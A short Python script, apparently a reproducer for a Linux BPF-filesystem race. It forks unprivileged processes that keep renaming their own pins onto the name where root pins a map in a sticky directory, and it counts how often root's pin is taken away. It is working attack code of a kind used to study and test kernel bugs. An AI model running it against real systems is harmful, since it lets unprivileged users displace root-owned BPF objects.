"""Processes of a user without rights keep renaming their pins to a name at which root keeps pinning a map.

Usage: sticky.py BED SECONDS - BED holds `bpf` (its root 1777, with a map `src`) and `mnt`. Prints how
often root's pin was there in peace and how often it was taken away.
"""

import ctypes
import os
import platform
import sys
import time

BPF_OBJ_PIN, BPF_OBJ_GET = 6, 7
OWN = ["mine1", "mine2", "mine3", "mine4"]
libc = ctypes.CDLL(None, use_errno=True)
SYS_bpf = {"x86_64": 321, "aarch64": 280, "riscv64": 280, "s390x": 351}[platform.machine()]


def bpf_path(command, path, fd=0):
    name = ctypes.create_string_buffer(os.fsencode(path))
    attr = ctypes.addressof(name).to_bytes(8, sys.byteorder)
    attr += fd.to_bytes(4, sys.byteorder) + bytes(4)
    got = libc.syscall(SYS_bpf, command, attr, len(attr))
    if got < 0:
        raise OSError(ctypes.get_errno(), path)
    return got


def attack(own):
    """Puts a pin of one's own at x while nothing is there, again and again."""
    os.setgroups([])
    os.setresgid(1111, 1111, 1111)
    os.setresuid(1111, 1111, 1111)
    while time.time() < end:
        try:
            os.rename("mnt/" + own, "mnt/x")
            os.rename("bpf/x", "bpf/" + own)
        except OSError:
            pass


os.chdir(sys.argv[1])
src = bpf_path(BPF_OBJ_GET, "bpf/src")
end = time.time() + float(sys.argv[2])
for own in OWN:
    bpf_path(BPF_OBJ_PIN, "bpf/" + own, src)
    os.chown("bpf/" + own, 1111, 1111)
    if os.fork() == 0:
        attack(own)
        os._exit(0)
peace = taken = 0
while time.time() < end:
    try:
        bpf_path(BPF_OBJ_PIN, "bpf/x", src)
    except OSError:
        continue  # theirs is there
    pinned = time.time()
    while time.time() < pinned + 0.0002:
        pass
    try:
        mine = os.stat("bpf/x").st_uid == 0
    except FileNotFoundError:
        mine = False
    if mine:
        os.unlink("bpf/x")
    peace, taken = peace + mine, taken + (not mine)
for _ in OWN:
    assert os.wait()[1] == 0
print(f"{taken} taken, some left in peace: {peace > 0}")
